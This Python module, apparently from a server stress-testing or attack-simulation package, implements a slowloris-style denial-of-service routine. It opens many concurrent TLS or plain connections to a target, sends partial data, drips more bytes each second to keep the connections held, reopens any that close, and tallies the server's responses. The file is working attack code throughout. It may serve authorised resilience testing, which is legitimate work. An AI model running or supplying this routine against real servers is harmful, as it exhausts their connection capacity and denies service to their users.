"""Many connections held open, at next to no cost to the attacker."""

from __future__ import annotations

import asyncio
import contextlib
import ssl
from collections.abc import Callable
from typing import cast

from callgate.core.units import SECONDS

from .attack import Assault
from .client import CONNECT_TIMEOUT, why

AT_ONCE = 10  # opened concurrently: this is about held connections, not handshakes
WHEN_IT_FAILS = 0.05 * SECONDS


class Held(asyncio.Protocol):
    """One held connection. Its first answer, or how it ended, is counted."""

    def __init__(self, assault: Assault, first: bytes) -> None:
        self._assault, self._first = assault, first
        self.transport: asyncio.Transport | None = None
        self._answered = False

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = cast(asyncio.Transport, transport)  # uvloop's transport is one, but its class does not say so
        if self._first:
            self.transport.write(self._first)

    def data_received(self, data: bytes) -> None:
        self._assault.look(data)
        if not self._answered and data.startswith(b"HTTP/"):
            self._answered = True
            self._assault.got[data[9:12].decode()] += 1

    def connection_lost(self, exc: Exception | None) -> None:
        if self.transport is not None and not self._answered:
            self._assault.got[why(exc) if exc else "closed"] += 1
        self.transport = None

    def write(self, data: bytes) -> None:
        """Send more data."""
        if self.transport is not None:
            self.transport.write(data)

    def let_go(self) -> bool:
        """Close the connection. Return whether it was still open and had not been answered."""
        transport, self.transport = self.transport, None
        if transport is None:
            return False
        transport.abort()
        return not self._answered


async def hold(
    assault: Assault,
    count: int,
    *,
    tls: bool = True,
    first: Callable[[int], bytes] = lambda number: b"",
    each_second: bytes = b"",
    again: bool = False,
    port: int | None = None,
) -> None:
    """Open ``count`` connections as fast as possible, send something on each, then a little more each second until
    the attack ends. With ``again``, closed connections are reopened."""
    held: list[Held] = []
    gate = asyncio.Semaphore(AT_ONCE)
    peer = assault.client.peer
    loop = asyncio.get_running_loop()

    async def open_one(number: int) -> None:
        async with gate:
            if not assault.goes_on:
                return
            assault.tried += 1
            one = Held(assault, first(number))
            try:
                async with asyncio.timeout(CONNECT_TIMEOUT):
                    await loop.create_connection(
                        lambda: one,
                        peer.host,
                        port or peer.port,
                        ssl=assault.client.tls() if tls else None,
                        server_hostname=peer.name if tls else None,
                        local_addr=(peer.source, 0),
                    )
                held.append(one)
            except (OSError, ssl.SSLError, TimeoutError) as error:
                assault.got[f"not opened: {why(error)}"] += 1
                await asyncio.sleep(WHEN_IT_FAILS)

    opening = [asyncio.ensure_future(open_one(number)) for number in range(count)]
    while assault.goes_on:
        await asyncio.sleep(min(1 * SECONDS, assault.left))
        there = [one for one in held if one.transport is not None]
        if each_second:
            for one in there:
                with contextlib.suppress(OSError):
                    one.write(each_second)
        if again and all(task.done() for task in opening):
            missing = count - len(there)
            held = there
            opening = [asyncio.ensure_future(open_one(number)) for number in range(missing)]
    if opening:
        await asyncio.wait(opening, timeout=CONNECT_TIMEOUT)
    for task in opening:
        task.cancel()
    assault.got["held to the end"] += sum(one.let_go() for one in held)
    await asyncio.sleep(0.1 * SECONDS)
